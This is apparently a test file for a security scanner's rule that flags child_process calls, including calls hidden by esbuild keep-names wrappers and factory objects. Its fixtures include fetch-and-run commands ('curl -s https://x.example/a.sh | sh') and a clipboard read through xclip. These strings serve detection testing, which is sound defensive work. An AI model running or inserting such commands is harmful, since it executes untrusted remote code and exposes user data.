// esbuild's keep-names and factory-made objects, on the shapes review 130 built to break them:
// each row failed on the change it guards.
import * as assert from 'node:assert/strict';
import { RULES } from '../../src/core/rules';
import { scanWith } from '../helpers/ruleTester';

const KEEP_NAMES = 'var __defProp = Object.defineProperty;\nvar __name = (target, value) => __defProp(target, "name", { value, configurable: true });\n';
const starts = (code: string) => scanWith(RULES, code).filter(f => f.ruleId === 'child-process').map(f => `${f.severity} ${f.message}`);

describe('keep-names and made objects', () => {
  it('a keep-names call whose result is used hands the function on: its start stays computed (medium)', () => {
    const handed = `${KEEP_NAMES}const cp = require("child_process");\nfunction run(cmd) { return cp.execSync(cmd); }\nrun("ls");\nmodule.exports = __name(run, "doRun");\n`;
    assert.ok(starts(handed).includes('medium Runs a shell command (child_process.execSync) computed at run time'), starts(handed).join('\n'));
    // The same call as a statement of its own names the function and hands it nowhere.
    const named = handed.replace('module.exports = __name(run, "doRun");', '__name(run, "doRun");');
    assert.ok(!starts(named).some(s => s.startsWith('medium')), starts(named).join('\n'));
  });

  it("finds the helper's definer where the helper is written, not from a call inside a function with a local of that name", () => {
    const code = 'var t=Object.defineProperty;var r=(e,n)=>t(e,"name",{value:n,configurable:!0});\nconst cp=require("child_process");\nfunction outer(){ var t = 5; var q = r((a)=>a+1, "q"); return q(t); }\nvar run = r((c, a) => cp.spawnSync(c, a), "run");\nfunction main(){ return run("xclip", ["-selection","clipboard","-o"]); }\nr(main,"main");\nmain();\n';
    assert.ok(starts(code).includes('low Starts a program (child_process.spawnSync via run()): xclip -selection clipboard -o'), starts(code).join('\n'));
  });

  it('a keep-named function over 64 KB is still a module factory: its repeats stay apart', () => {
    const filler = `const pad = ${JSON.stringify('x'.repeat(70 * 1024))};`;
    const code = `${KEEP_NAMES}var mod = __name(() => { ${filler} const cp = require("child_process"); cp.execSync("curl -s https://x.example/a.sh | sh"); cp.execSync("curl -s https://x.example/a.sh | sh"); }, "mod");\nmod();\n`;
    assert.equal(starts(code).filter(s => s.includes('curl')).length, 2, starts(code).join('\n'));
  });

  it("calls a factory's method when the factory returns a name or a minifier's comma form, as when it returns the object", () => {
    for (const make of ['function make() { const o = { run: (c) => cp.execSync(c) }; return o; }', 'function make(n) { return n && n(), { run: (c) => cp.execSync(c) }; }']) {
      const code = `const cp = require("child_process");\n${make}\nfunction go() { make().run("curl -s https://x.example/i.sh | sh"); }\ngo();\n`;
      assert.ok(starts(code).some(s => s.includes('via make().run()): curl -s https://x.example/i.sh | sh')), `${make}\n${starts(code).join('\n')}`);
    }
  });
});
